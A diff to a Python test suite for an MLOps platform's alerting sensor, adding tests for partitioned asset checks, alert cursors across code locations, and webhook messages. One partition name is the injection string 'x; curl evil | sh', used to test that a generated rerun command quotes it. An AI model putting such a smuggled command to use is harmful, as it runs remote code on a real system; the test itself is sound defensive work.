@@ -11,6 +11,7 @@ import pytest
 import mlops_assets as ml
 from mlops_assets.orchestrate.compiler.build import compiled_projects
 from mlops_assets.orchestrate.monitoring.alerts import SENSOR, find_sources, run_alerts
+from mlops_assets.stores.database import schema
 from mlops_assets.stores.platform.stores import Stores, open_stores
 from mlops_assets.values.alerts.silences import TimedSilence
 from tests.conftest import Runner
@@ -38,6 +39,19 @@ def visits(window: ml.TimeWindow) -> pl.DataFrame:
     return pl.DataFrame({"id": [window.start.isoformat()], "at": [window.start]})
 
 
+@dg.asset(key_prefix="dataset", partitions_def=dg.StaticPartitionsDefinition(["north", "south", "x; curl evil | sh"]))
+def shops() -> None:
+    pass
+
+
+@dg.asset_check(asset=shops, name="open")
+def is_open() -> dg.AssetCheckResult:
+    return dg.AssetCheckResult(passed=True)
+
+
+ITEMS = (numbers, others, visits, shops, is_open)
+
+
 @pytest.fixture
 def hook() -> Iterator[HookServer]:
     with serve(HookServer()) as server:
@@ -58,10 +72,14 @@ def _healthy() -> None:
 class Alerting(Runner):
     """A project with alerts, and turns of its sensor at chosen times."""
 
-    def __init__(self, tmp_path, instance: dg.DagsterInstance, alerts: ml.monitoring.Alerts | None, **environ: str) -> None:
+    def __init__(self, tmp_path, instance: dg.DagsterInstance, alerts: ml.monitoring.Alerts | None, items=ITEMS, **environ: str) -> None:
         platform = ml.Platform.from_env({"MLOPS_HOME": str(tmp_path / "home"), **environ})
-        super().__init__(ml.build_definitions([numbers, others, visits], platform=platform, alerts=alerts), instance)
+        super().__init__(ml.build_definitions(items, platform=platform, alerts=alerts), instance)
         self.compiled, self.now = compiled_projects()[-1], NOW
+
+    @property
+    def instance_id(self) -> str:
+        return str(self.instance.run_storage.get_run_storage_id())
 
     def turn(self, minutes: float = 0, stores: Stores | None = None) -> str:
         self.now += timedelta(minutes=minutes)
@@ -72,10 +90,10 @@ class Alerting(Runner):
     def stores(self) -> Stores:
         return open_stores(self.compiled.platform)
 
-    def check(self, day: str, *, passed: bool, name: str = "key", severity: str = "ERROR", **metadata: str) -> None:
-        """Report the evaluation of a check of one partition of visits."""
+    def check(self, day: str, *, passed: bool, name: str = "key", severity: str = "ERROR", asset: str = "visits", **metadata: str) -> None:
+        """Report the evaluation of a check of one partition of a dataset, visits by default."""
         evaluation = dg.AssetCheckEvaluation(
-            asset_key=dg.AssetKey(["dataset", "visits"]),
+            asset_key=dg.AssetKey(["dataset", asset]),
             check_name=name,
             passed=passed,
             partition=day,
@@ -294,6 +312,47 @@ def test_the_webhook_of_the_environment_is_a_channel(hook, tmp_path, instance) -
         project.check("2024-01-01", passed=False)
     assert reason.skip_message.startswith("1 opened; sent to webhook 127.0.0.1")
     assert hook.kinds == [[("opened", "dataset/visits:key")]]
+
+
+def test_two_code_locations_of_one_platform_lose_no_failed_run_of_each_other(hook, tmp_path, instance) -> None:
+    @dg.asset
+    def lonely() -> None:
+        raise RuntimeError("the source is down")
+
+    alerts = ml.monitoring.Alerts(ml.monitoring.Webhook(hook.url))
+    first = Alerting(tmp_path, instance, alerts)
+    second = Alerting(tmp_path, instance, alerts, items=[lonely])
+    for location in (first, second):
+        location.turn()
+    BAD["crash"] = True
+    second("lonely", ok=False)
+    first("dataset/numbers", ok=False)
+    for location in (first, second, first, second):
+        location.turn(1)
+    assert sorted(hook.kinds) == [[("opened", "run of dataset/numbers")], [("opened", "run of lonely")]]
+
+
+def test_a_position_from_before_code_locations_had_their_own_is_continued(project, hook) -> None:
+    (source,) = [name for name in project.stores.alerts.positions(project.instance_id) if name.startswith("runs")]
+    with project.stores.alerts._database.write_transaction() as connection:
+        connection.execute(schema.alert_cursors.update().filter_by(source=source).values(source="runs"))
+    BAD["crash"] = True
+    project("dataset/numbers", ok=False)
+    project.turn()
+    assert hook.kinds == [[("opened", "run of dataset/numbers")]]
+
+
+def test_a_warning_of_a_partition_without_an_order_is_resolved_by_itself_only(project, hook) -> None:
+    for shop, passed, messages in (("north", False, 1), ("south", True, 1), ("north", True, 2)):
+        project.check(shop, passed=passed, severity="WARN", asset="shops", name="open")
+        project.turn()
+        assert len(hook.kinds) == messages
+
+
+def test_a_command_quotes_the_partition(project, hook) -> None:
+    project.check("x; curl evil | sh", passed=False, asset="shops", name="open")
+    project.turn()
+    assert hook.received[0]["alerts"][0]["command"] == "mlops run --select 'key:\"dataset/shops\"' --partitions 'x; curl evil | sh'"
 
 
 def test_without_a_channel_there_is_no_sensor(platform) -> None:
